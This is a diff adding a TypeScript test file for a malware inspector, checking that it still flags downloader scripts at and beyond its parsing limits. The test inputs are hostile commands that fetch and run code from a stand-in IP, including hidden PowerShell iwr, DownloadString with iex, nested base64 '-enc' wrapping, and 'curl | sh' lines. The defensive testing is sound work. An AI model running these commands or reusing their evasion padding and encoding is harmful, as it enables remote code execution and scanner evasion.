@@ -1,0 +1,86 @@
+/** At a limit of the readers of shells a download is found; one past it as well, or the document is not clean. */
+
+import assert from 'node:assert/strict'
+import { suite, test } from 'node:test'
+import { ourInspector } from '#inspect/testing/inspector.ts'
+import { ALTERNATIVES_MAX, LINE_MAX } from './batch.ts'
+import { VALUES_MAX } from './downloads.ts'
+import { NESTED_MAX } from './powershell.ts'
+import { TEXT_MAX } from './statements.ts'
+
+const inspector = await ourInspector()
+const EVIL = 'powershell -w hidden iwr http://192.0.2.1/a'
+const URL = 'http://192.0.2.1/a.exe'
+const each = (count: number, of: (index: number) => string): string =>
+  Array.from({ length: count }, (_, i) => of(i)).join('')
+const LOAD = `(New-Object Net.WebClient).DownloadString("${URL}")`
+
+function isFound(source: string, name: string): boolean {
+  const { findings, obstacle } = inspector.inspect(Buffer.from(source, 'latin1'), { name })
+  return findings[0]?.severity === 'malicious' || obstacle !== null
+}
+
+function encoded(command: string, times: number): string {
+  if (times === 0) return command
+  return `powershell -enc ${Buffer.from(encoded(command, times - 1), 'utf16le').toString('base64')}`
+}
+
+interface Row {
+  file: string
+  max: number
+  of: (count: number) => string
+}
+
+const ROWS: Readonly<Record<string, Row>> = {
+  'values of a variable of a batch file': {
+    file: 'a.bat',
+    max: ALTERNATIVES_MAX,
+    of: (count) =>
+      `@echo off\nset p=${EVIL}\n${each(count - 1, (i) => `if "%1"=="${i}" set p=notepad ${i}.txt\n`)}%p%\n`,
+  },
+  'commands in Base64 within each other': { file: 'a.ps1', max: NESTED_MAX, of: (count) => encoded(EVIL, count) },
+  'values of a variable of a shell': {
+    file: 'a.sh',
+    max: VALUES_MAX,
+    of: (count) =>
+      `#!/bin/sh\nu=${URL}\n${each(count - 1, (i) => `if [ $1 = ${i} ]; then u=https://example.com/${i}; fi\n`)}curl -o /tmp/a $u\nsh /tmp/a\n`,
+  },
+  'characters of a text of PowerShell': {
+    file: 'a.ps1',
+    max: TEXT_MAX,
+    of: (count) => `iex ('${'#'.repeat(count - 2 - LOAD.length)}${LOAD}'.replace('#',''))\n`,
+  },
+  'characters of a text of PowerShell on both sides': {
+    file: 'a.ps1',
+    max: TEXT_MAX,
+    of: (count) => {
+      const half = '#'.repeat((count - 2 - LOAD.length) / 2)
+      return `iex ('${half}${LOAD}${half}'.replace('#',''))\n`
+    },
+  },
+}
+
+suite('at the limit, one past it and far past it', () => {
+  for (const [name, { file, max, of }] of Object.entries(ROWS))
+    test(name, () => {
+      for (const count of [max, max + 1, max * 3]) assert.ok(isFound(of(count), file), String(count))
+    })
+})
+
+suite('a statement of any length', () => {
+  for (const length of [10, 4_000, 4_001, 50_000]) {
+    test(`with ${length} blanks`, () =>
+      assert.ok(isFound(`#!/bin/sh\ncurl ${' '.repeat(length)} -o /tmp/a ${URL} && sh /tmp/a\n`, 'a.sh')))
+    test(`with ${length} letters`, () =>
+      assert.ok(isFound(`#!/bin/sh\ncurl -H "${'x'.repeat(length)}" ${URL} | sh\n`, 'a.sh')))
+    test(`with a loop over addresses of ${length} characters`, () => {
+      const others = 'https://example.com/a '.repeat(Math.ceil(length / 22))
+      assert.ok(isFound(`#!/bin/sh\nfor u in ${others}${URL}; do curl $u | sh; done\n`, 'a.sh'))
+      assert.ok(!isFound(`#!/bin/sh\nfor u in ${others}; do curl -O $u; done\n`, 'a.sh'))
+    })
+  }
+  test('that Windows does not run because it is too long', () => {
+    const of = (length: number): string => `@echo off\n${EVIL.padEnd(length, ' ')}\n`
+    assert.ok(isFound(of(LINE_MAX), 'a.bat'))
+  })
+})
